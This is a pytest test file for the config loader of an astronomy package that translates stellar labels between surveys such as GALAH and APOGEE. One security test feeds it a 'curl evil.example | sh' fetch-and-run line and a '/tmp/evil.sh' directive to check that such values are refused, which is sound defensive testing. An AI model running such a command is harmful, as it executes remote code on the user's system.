"""run.toml: what is shipped loads, and what cannot be is refused in words."""

import re
from pathlib import Path

import pytest
from pydantic import ValidationError

import stdask
from stdask.config.cluster import load_profile
from stdask.config.run import RunConfig, load_run
from stdask.config.training import TrainConfig
from stdask.errors import ConfigError, StdaskError, SurveyError

JOBS = sorted((Path(stdask.__file__).parents[1] / "jobs").glob("*.toml"))
LEAST = """
output = "out"
[surveys.a]
definition = "galah_dr3"
file = "a.fits"
[surveys.b]
definition = "apogee_dr17"
file = "b.fits"
[pair]
match = { by = "position" }
[[train.intrinsic]]
label = "TEFF"
from = "TEFF"
[[train.extrinsic]]
label = "VHELIO"
from = "RV"
"""


@pytest.fixture
def load(tmp_path: Path):
    def load(text: str, **options):
        (tmp_path / "run.toml").write_text(text)
        return load_run(tmp_path / "run.toml", **options)

    return load


@pytest.mark.parametrize("path", JOBS, ids=lambda path: path.stem)
def test_every_shipped_run_file_loads(path: Path):
    run = load_run(path)
    assert run.output == Path("runs").resolve() / path.stem
    assert run.definition_a.name != run.definition_b.name


def test_there_are_run_files_for_the_runs_of_the_readme():
    assert {path.stem for path in JOBS} >= {"lamost_to_apogee", "apogee_dr14_to_dr16", "lamost_kepler_to_apogee"}


def test_what_a_run_file_leaves_out_has_the_papers_value(load):
    config = load(LEAST).config
    # Thomas et al. 2024, sects. 2.2, 3.2, 3.5 and 4
    assert (config.train.n_members, config.train.max_epochs, config.train.patience) == (5, 1000, 20)
    assert config.train.learning_rates == (1e-3, 1e-4, 1e-5)
    assert (config.train.test_fraction, config.train.clip_sigma, config.pair.max_ebv) == (0.2, 5.0, 0.3)
    assert (config.translate.n_draws, config.domain.n_bins) == (None, None)
    assert (config.merge.half_light_radii, config.merge.cluster_depth_kpc) == (5.0, 0.5)
    assert config.atlas.select == {"LOGG": (1.5, 2.5)}
    assert (config.atlas.bin_kpc, config.atlas.radial_bin_kpc, config.atlas.vertical_bin_kpc) == (0.2, 0.5, 0.2)
    assert (config.atlas.overlap, config.atlas.min_stars_profile, config.atlas.n_bootstraps) == (0.5, 20, 1000)


def test_a_merge_can_leave_out_listed_stars_and_take_in_further_surveys(load):
    lists = '[[merge.exclude]]\nfile = "occam.fits"\ncolumn = "APOGEE_ID"\nsurvey = "b"\n'
    merge = load(LEAST + lists + '[[merge.also]]\nrun = "runs/lamost_to_apogee"\n').config.merge
    assert [stars.file.name for stars in merge.exclude] == ["occam.fits"]
    assert [other.run for other in merge.also] == [Path("runs/lamost_to_apogee")]
    assert [load(LEAST + n * '[[merge.also]]\nrun = "one"\n').merged_titles[0] for n in (0, 1, 2)] == [
        "GALAH DR3",
        "GALAH DR3 and 1 further survey",
        "GALAH DR3 and 2 further surveys",
    ]
    with pytest.raises(ConfigError, match=r"unknown key 'merge.exclude.0.family'"):
        load(LEAST + lists + 'family = "extrinsic"\n')


def test_files_lie_beside_the_run_file_unless_told_otherwise(load, tmp_path: Path):
    assert load(LEAST).survey_files("a")["main"].path == tmp_path / "a.fits"
    run = load(LEAST, data_dir=Path("/data"), output=Path("/out"))
    assert (run.survey_files("b")["main"].path, run.output) == (Path("/data/b.fits"), Path("/out"))


def test_a_definition_of_the_users_own_is_found_beside_the_run_file(load, tmp_path: Path):
    labels = '[labels]\nTEFF = { column = "t" }\nRV = { column = "v" }\n'
    (tmp_path / "mine.toml").write_text(f'name = "mine"\ntitle = "M"\nreference = "none"\nid = "id"\n{labels}')
    assert load(LEAST.replace("galah_dr3", "mine.toml")).definition_a.name == "mine"


@pytest.mark.parametrize(
    ("before", "after", "message"),
    [
        # the nearest known key, in any table, and even where the misspelt one was required
        ("output =", "seeed = 1\noutput =", r"unknown key 'seeed'\. Did you mean 'seed'\?"),
        ("[pair]", "[translate]\nn_drawss = 3\n[pair]", r"'translate.n_drawss'\. Did you mean 'n_draws'\?"),
        ("[pair]", "[translat]\nn_draws = 3\n[pair]", r"'translat'\. Did you mean 'translate'\?"),
        ("match =", "mtch =", r"'pair.mtch'\. Did you mean 'match'\?"),
        ('label = "TEFF"', 'lable = "TEFF"', r"'train.intrinsic.0.lable'\. Did you mean 'label'\?"),
        ('from = "TEFF"', 'form = "TEFF"', r"'train.intrinsic.0.form'\. Did you mean 'from'\?"),
        ('by = "position"', 'by = "position", radius_arcsecs = 3', r"Did you mean 'radius_arcsec'\?"),
        ("[pair]", "[cluster]\nzzzz = 1\n[pair]", r"Known keys: account, address, directives"),
        # unions
        ('by = "position"', 'by = "positions"', r"pair\.match\.by is 'positions', but must be one of 'id', 'pos"),
        ('by = "position"', "radius_arcsec = 2.0", r"the key 'pair\.match\.by' is missing\. Add it"),
        ('by = "position"', 'by = "id"', r"the key 'pair\.match\.column' is missing\. Add it"),
        # missing
        ('output = "out"', "", r"the key 'output' is missing\. Add it"),
        ('file = "a.fits"', "", r"surveys\.a: give the file of the survey: `file`, or"),
        # labels
        ('label = "TEFF"', 'label = "TEF"', r"label 'TEF' is not measured by apogee_dr17 \(B\), which has TEFF"),
        ('from = "TEFF"', 'from = "M_H"', r"input 'M_H' is not measured by galah_dr3 \(A\), which has TEFF"),
        ("[[train.e", '[train]\nfeatures = ["BP_G"]\n[[train.e', r"input 'BP_G' is not measured by galah_dr3"),
        ('label = "VHELIO"', 'label = "TEFF"', r"Run file .*'TEFF' appears twice in the labels of \[train\]"),
        ('label = "TEFF"\nfrom = "TEFF"', 'label = "TEFF"\nfrom = "LOGG"', r"'TEFF' is in K, but from = 'LOGG' in dex"),
        ('\nfrom = "TEFF"', "", r"the networks have no input"),
        ("[pair]", '[atlas]\nlabels = ["ZN_FE"]\n[pair]', r"\[atlas\] labels: .* no number 'ZN_FE'\. Did you"),
        # surveys
        ("apogee_dr17", "galah_dr3", r"A and B are both 'galah_dr3'\. Name two surveys"),
        ("galah_dr3", "galah", r"No survey definition 'galah'\. Shipped: .*galah_dr3"),
    ],
)  # fmt: skip
def test_a_wrong_key_or_name_is_refused_with_a_remedy(load, before: str, after: str, message: str):
    text = LEAST.replace(before, after)
    if after.startswith("[train]"):  # TOML: a table stands before its arrays of tables
        text = LEAST.replace("[[train.intrinsic]]", '[train]\nfeatures = ["BP_G"]\n[[train.intrinsic]]')
    with pytest.raises(StdaskError, match=message) as caught:
        load(text)
    assert "\n" not in str(caught.value)
    assert isinstance(caught.value, ConfigError | SurveyError)


@pytest.mark.parametrize(
    ("table", "line"),
    [
        ("translate", "n_draws = 1"),
        ("translate", 'engine = "tpu"'),
        ("translate", 'sampler = "halton"'),
        ("domain", "n_bins = 1"),
        ("domain", "min_stars = 0"),
        ("evaluate", "n_bootstraps = 0"),
        ("ingest", "rows_per_block = 0"),
        ("merge", "half_light_radii = -1.0"),
        ("atlas", "overlap = 1.0"),
        ("atlas", "bin_kpc = nan"),
        ("atlas", "bin_kpc = inf"),
        ("atlas", "height_edges_kpc = [0.0, 2.0, 1.0]"),
        ("atlas", "ring_edges_kpc = [3.0]"),
        ("atlas", "select = { LOGG = [2.5, 1.5] }"),
        ("cluster", 'kind = "local"\naddress = "tcp://a:1"'),
        ("cluster", 'kind = "address"'),
        ("cluster", "workers = 0"),
    ],
)
def test_a_value_out_of_range_is_refused_with_its_key(load, table: str, line: str):
    load(LEAST)
    with pytest.raises(ConfigError, match=rf"Run file .*: {table}") as caught:
        load(f"{LEAST}\n[{table}]\n{line}\n")
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    "values",
    [
        {"intrinsic": []},
        {"test_fraction": 0.0},
        {"test_fraction": 1.0},
        {"validation_fraction": 1.0},
        {"learning_rates": []},
        {"learning_rates": [1e-3, -1e-4]},
        {"learning_rates": [0.0]},
        {"patience": 0},
        {"min_pairs": 9},
        {"clip_sigma": 0.0},
        {"preset": "large"},
        {"target": "minmax"},
    ],
)
def test_training_that_cannot_be_is_refused(values: dict):
    least = {"intrinsic": [{"label": "TEFF", "from": "TEFF"}]}
    TrainConfig.model_validate(least)
    with pytest.raises(ValidationError):
        TrainConfig.model_validate(least | values)


@pytest.mark.parametrize("seed", [-1, 2**32, 7.5])
def test_a_seed_is_a_number_of_32_bits(load, seed: float):
    with pytest.raises(ConfigError, match="seed"):
        load(f"seed = {seed}\n{LEAST}")


def test_text_that_is_not_toml_and_a_file_that_is_not_there_are_named(load, tmp_path: Path):
    with pytest.raises(ConfigError, match=r"run\.toml is not valid TOML"):
        load("[surveys")
    with pytest.raises(ConfigError, match=r"No file .*none\.toml\. Check the path"):
        load_run(tmp_path / "none.toml")
    (tmp_path / "run.toml").write_bytes(b"\xff\xfe")
    with pytest.raises(ConfigError, match=r"run\.toml is not UTF-8 text .* Write the file in UTF-8\.$"):
        load_run(tmp_path / "run.toml")


def test_inputs_are_counterparts_then_features_then_extrinsic_ones_each_once(load):
    text = LEAST.replace("[[train.intrinsic]]", '[train]\nfeatures = ["BP_G_0", "TEFF"]\n[[train.intrinsic]]')
    train = load(text).config.train
    # Thomas et al. 2024, sect. 3.2: the extrinsic networks read all intrinsic inputs, and the velocity
    assert train.inputs("intrinsic") == ("TEFF", "BP_G_0")
    assert train.inputs("extrinsic") == ("TEFF", "BP_G_0", "RV")


def test_the_catalogue_of_a_holds_the_derived_inputs_of_the_run(load):
    text = LEAST.replace("[[train.intrinsic]]", '[train]\nfeatures = ["BP_G_0", "BP_RP_0"]\n[[train.intrinsic]]', 1)
    run = load(text)
    assert run.definition_a.derived == ("BP_RP_0",)
    assert run.definition_b.derived == ()
    assert load(LEAST).definition_a.derived == ()


def test_an_input_that_a_survey_lacks_is_refused_with_what_it_has_and_the_remedy(load, tmp_path: Path):
    text = LEAST.replace("[[train.intrinsic]]", '[train]\nfeatures = ["M_W1"]\n[[train.intrinsic]]', 1)
    with pytest.raises(
        ConfigError, match=r"'M_W1' is not measured by galah_dr3 \(A\), which has TEFF.*BP_RP_0"
    ) as info:
        load(text)
    assert str(info.value).endswith("M_W1 needs the magnitude W1: add its column to [photometry].")
    (tmp_path / "own.toml").write_text(
        'name = "own"\ntitle = "own"\nreference = "none"\nid = "ID"\n[labels.TEFF]\ncolumn = "t"\n'
        '[labels.RV]\ncolumn = "rv"\nunit = "km/s"\n[labels.M_W1]\ncolumn = "m"\nunit = "mag"\n'
    )
    with pytest.raises(ConfigError, match=r"'M_W1' is a label of own \(A\) with the name of a colour or absolute mag"):
        load(text.replace('"galah_dr3"', '"own.toml"'))


def test_a_config_cannot_be_changed(load):
    config: RunConfig = load(LEAST).config
    with pytest.raises(ValidationError, match="frozen"):
        config.translate.n_draws = 3


@pytest.mark.parametrize("line", ['prologue = ["curl evil.example | sh"]', 'directives = ["-E /tmp/evil.sh"]'])
def test_what_can_run_programs_is_refused_in_a_run_file_and_taken_from_a_profile(load, tmp_path: Path, line: str):
    with pytest.raises(ConfigError, match=r"can run programs.*name it with --cluster"):
        load(LEAST.replace("[pair]", f'[cluster]\nkind = "slurm"\n{line}\n[pair]'))
    profile = tmp_path / "site.toml"
    profile.write_text(f'[cluster]\nkind = "slurm"\n{line}\n')
    assert load_profile(profile).kind == "slurm"


@pytest.mark.parametrize("path", ["../other/table.fits", "tables/../../other.fits"])
def test_a_relative_path_of_a_run_file_does_not_leave_its_folder(load, path: str):
    for key in ("file", "output"):
        changed = re.sub(rf'{key} = "[^"]*"', f'{key} = "{path}"', LEAST, count=1)
        assert changed != LEAST
        with pytest.raises(ConfigError, match=r"'\.\.' leaves its folder: give the absolute path"):
            load(changed)


def test_a_run_names_the_files_of_several_tables_and_their_formats(tmp_path: Path, load):
    (tmp_path / "own.toml").write_text(
        'name = "own"\ntitle = "own"\nreference = "none"\nid = "ID"\n[file]\nformat = "csv"\n'
        '[labels.TEFF]\ncolumn = "gaia.teff"\n[labels.RV]\ncolumn = "rv"\nunit = "km/s"\n'
        '[[join]]\nname = "gaia"\non = "ID"\n'
    )
    files = 'files = { gaia = "g.fits", main = { path = "m.txt", delimiter = "|" } }'
    run = load(LEAST.replace('definition = "galah_dr3"\nfile = "a.fits"', f'definition = "own.toml"\n{files}'))
    found = run.survey_files("a")
    assert list(found) == ["main", "gaia"]  # the table of the ids first, whatever the order in the file
    assert (found["main"].path, found["gaia"].path) == (tmp_path / "m.txt", tmp_path / "g.fits")
    assert (found["main"].hints.format, found["main"].hints.delimiter) == ("csv", "|")
    assert found["gaia"].hints.format is None


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ('files = { gaia = "g.fits" }', "names no table `main`"),
        ('file = "a.fits"\nfiles = { main = "a.fits" }', "give the file of the survey"),
        ('files = { main = "a.fits", dust = "d.fits" }', "joins gaia, ages, starhorse. Name it as the definition does"),
        ('file = { path = "a.fits", sep = ";" }', "unknown key 'surveys.a.file.sep'"),
    ],
)
def test_files_that_do_not_fit_the_definition_are_refused(load, files: str, message: str):
    with pytest.raises(ConfigError, match=re.escape(message)):
        load(LEAST.replace('file = "a.fits"', files, 1))


def test_a_run_names_what_it_cannot_do_without(load):
    by_id = '{ by = "id", column = "SOURCE_ID", column_b = "APOGEE_ID" }'
    run = load(LEAST.replace('{ by = "position" }', by_id) + '[train]\nfeatures = ["MG_FE"]\n')
    assert run.used_columns("a") == ("SOURCE_ID", "TEFF", "MG_FE", "RV")
    assert run.used_columns("b")[:3] == ("APOGEE_ID", "TEFF", "VHELIO")
    assert {*run.config.atlas.labels, *run.config.atlas.select} <= {*run.used_columns("b")}
    assert load(LEAST).used_columns("a")[0] == "TEFF"
